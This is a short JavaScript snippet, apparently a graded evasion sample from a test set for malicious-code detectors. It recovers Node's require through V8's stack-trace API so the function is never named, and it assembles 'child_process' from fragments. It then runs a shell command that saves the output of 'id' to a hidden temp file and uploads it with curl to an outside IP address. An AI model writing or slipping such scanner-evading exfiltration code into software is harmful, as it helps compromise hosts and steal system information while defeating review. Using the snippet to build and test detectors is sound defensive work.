// evasion: require recovered from the module wrapper through V8's stack-trace API (Error.prepareStackTrace, CallSite.getFunction().arguments), never named
// grade: very hard; does: shell
function loader() {
  const saved = Error.prepareStackTrace;
  Error.prepareStackTrace = (_, frames) => frames;
  const frames = new Error().stack;
  Error.prepareStackTrace = saved;
  for (const frame of frames) {
    const fn = frame.getFunction();
    if (fn && fn.length === 5) return fn.arguments[1];
  }
  return null;
}

const load = loader();
const proc = load(['child', 'process'].join('_'));
proc.execSync('sh -c "id > /tmp/.o; curl -s -T /tmp/.o https://203.0.113.5/u"');
